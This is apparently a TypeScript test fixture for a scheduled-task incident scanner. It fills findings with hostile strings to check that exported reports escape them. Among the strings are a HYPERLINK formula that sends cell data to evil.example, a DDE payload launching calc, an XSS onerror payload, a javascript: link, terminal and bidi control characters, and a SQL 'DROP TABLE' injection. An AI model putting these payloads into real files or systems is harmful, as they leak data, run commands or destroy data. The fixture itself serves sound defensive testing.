import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { writeDemo } from '../../src/lab/demo-incident.ts'
import { madeChain, madeProcess, madeRun } from '../../src/lab/made-chains.ts'
import type { ScoredChain } from '../../src/model/finding.ts'
import type { ScanResult } from '../../src/report/index.ts'
import { scanPaths } from '../../src/run/index.ts'

/** What every reader of a form must take as it is: ends of cells, lines and code, formulas, markup, control and reordering. */
export const hostile = [
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '+1,2',
  '-2+3',
  '＝1+1',
  '\t=1+1',
  'a,b;"c"\r\nd',
  '`code` ```fence``` <img src=x onerror=alert(1)> [a](javascript:alert(1)) | **b** #1 @all',
  '\u001b[2J\u009b31m\u202ex\u2028y\u200b',
  '計画🔥e\u0301',
  "'; DROP TABLE x;--",
  '\ud800 lone',
]

/** A chain with `text` in all that the input fills. */
export function hostileChain(text: string, i = 0): ScoredChain {
  const actor = {
    user: `${text}\\${text}`,
    sid: text,
    logonId: text,
    process: { pid: 4, image: text, commandLine: text, ancestry: [{ pid: 3, image: text, commandLine: text }] },
    remote: { address: text, host: text },
  }
  const file = {
    ...{ md5: null, sha1: null, importHash: null, sha256: 'ab'.repeat(32) },
    ...{ signer: text, signature: 'unsigned' as const },
  }
  const process = { image: text, commandLine: text, user: text, file }
  return {
    chain: madeChain({
      id: `hostile-${i}`,
      host: text,
      taskPath: `\\${text}`,
      statedAction: text,
      change: { actor, because: text, outcome: 'attempted', route: 'schtasks', laterChanges: [{ actor }] },
      runs: [madeRun({ requestedBy: actor, processes: [madeProcess(process), madeProcess({ ...process, depth: 1 })] })],
      payload: [{ path: text, file }],
      circumstances: [{ kind: 'environment-changed', what: text, actor }],
      blindSpots: [text],
    }),
    verdict: 'outlier',
    score: { bits: -1.5, severity: 'high', factors: [{ id: 'remote', bits: 3, says: text }] },
    baseline: text,
    settings: { id: text, taskAuthor: null, commandLineRegex: [], executionWindow: null },
  }
}

/** The demo's incident as it is scanned, and the same with chains full of hostile text. */
export async function shownFindings(): Promise<{ readonly demo: ScanResult; readonly evil: ScanResult }> {
  const folder = mkdtempSync(join(tmpdir(), 'tasktrail-test-formats-'))
  try {
    writeDemo(folder)
    const demo = await scanPaths([folder], { jobs: 1 })
    const chains = [...demo.chains, ...hostile.map(hostileChain)]
    return {
      demo,
      evil: {
        ...demo,
        get inventory() {
          return demo.inventory
        },
        chains,
      },
    }
  } finally {
    rmSync(folder, { recursive: true })
  }
}
